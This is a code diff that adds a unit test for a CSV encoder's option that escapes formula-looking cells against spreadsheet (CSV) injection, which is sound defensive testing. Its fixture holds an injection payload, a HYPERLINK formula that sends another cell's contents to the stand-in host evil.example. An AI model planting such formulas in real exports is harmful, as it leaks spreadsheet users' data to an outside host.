@@ -7,6 +7,21 @@ const sjisDecode = (bytes: Uint8Array) =>
   new TextDecoder('shift_jis', { fatal: true }).decode(bytes);
 
 describe('encodeCsv', () => {
+  it('writes formula-looking cells as text for spreadsheets when asked (CSV injection)', () => {
+    const rows = [
+      ['=HYPERLINK("https://evil.example/?d="&C2,"詳細")', '+1+2', '-3', '@SUM(A1)', '\tx', 'ok'],
+    ];
+    const text = (textOnly: boolean) =>
+      new TextDecoder().decode(encodeCsv(rows, { encoding: 'utf-8', newline: '\n', textOnly }));
+    expect(text(true)).toBe(
+      `"'=HYPERLINK(""https://evil.example/?d=""&C2,""詳細"")",'+1+2,-3,'@SUM(A1),'\tx,ok\n`,
+    );
+    // Source files keep their cells exactly (a connector reads what the office wrote).
+    expect(text(false)).toBe(
+      '"=HYPERLINK(""https://evil.example/?d=""&C2,""詳細"")",+1+2,-3,@SUM(A1),\tx,ok\n',
+    );
+  });
+
   it('quotes only fields holding a quote, comma or line break', () => {
     expect(quoteCsvField('plain text')).toBe('plain text');
     expect(quoteCsvField('a,b')).toBe('"a,b"');
